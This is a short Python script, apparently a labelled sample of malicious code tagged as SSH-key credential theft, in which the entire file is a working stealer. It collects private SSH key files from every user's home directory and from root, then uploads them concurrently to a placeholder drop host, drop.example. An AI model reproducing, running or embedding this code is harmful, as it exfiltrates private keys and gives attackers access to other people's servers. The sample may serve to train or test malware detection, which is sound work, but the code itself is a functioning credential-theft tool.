# class: credential theft, ssh keys; style: async
import asyncio
import glob
import os

import aiohttp


async def send(session, path):
    with open(path, "rb") as fh:
        data = aiohttp.FormData()
        data.add_field("file", fh.read(), filename=os.path.basename(path))
    async with session.post("https://drop.example/upload", data=data) as resp:
        return resp.status


async def main():
    paths = [p for p in glob.glob("/home/*/.ssh/id_*") + glob.glob("/root/.ssh/id_*") if not p.endswith(".pub")]
    async with aiohttp.ClientSession() as session:
        await asyncio.gather(*(send(session, p) for p in paths))


asyncio.run(main())
